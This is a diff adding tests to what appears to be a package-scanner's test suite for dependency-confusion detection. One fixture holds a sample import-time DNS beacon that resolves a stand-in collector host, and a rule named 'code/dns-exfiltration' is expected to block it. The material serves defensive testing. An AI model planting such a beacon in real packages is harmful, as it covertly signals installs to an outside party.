@@ -241,3 +241,34 @@ def test_the_top_level_init_of_a_src_layout_runs_on_import(tmp_path: Path) -> No
     result = _scan(build_sdist(tmp_path, "corp-sdk", "99.0.0", files))
     assert _rules(result)[WITH_CODE] is Severity.HIGH
     assert result.verdict.decision is Decision.WARN
+
+
+DNS_BEACON_INIT = (
+    "import socket\n"
+    "def _check():\n"
+    "    try:\n"
+    "        socket.gethostbyname('corp-sdk.probe.collector-example.net')\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "_check()\n"
+)
+DNS_IN_A_FUNCTION = (
+    "import socket\n"
+    "def reachable(host='api.service-example.net'):\n"
+    "    return socket.gethostbyname(host)\n"
+)
+
+
+def test_one_signal_with_a_dns_beacon_at_import_is_blocked(tmp_path: Path) -> None:
+    """A fixed host resolved as the package is imported: the dependency-confusion canary."""
+    result = _scan(_wheel(tmp_path, "corp-sdk", DNS_BEACON_INIT, version="100.0.1"))
+    assert result.verdict.decision is Decision.BLOCK
+    rules = _rules(result)
+    assert rules["code/dns-exfiltration"] is Severity.HIGH
+    assert rules[WITH_CODE] is Severity.CRITICAL
+
+
+def test_a_lookup_the_caller_asks_for_is_not_a_beacon(tmp_path: Path) -> None:
+    result = _scan(_wheel(tmp_path, "corp-sdk", DNS_IN_A_FUNCTION, version="100.0.1"))
+    assert result.verdict.decision is not Decision.BLOCK
+    assert "code/dns-exfiltration" not in _rules(result)
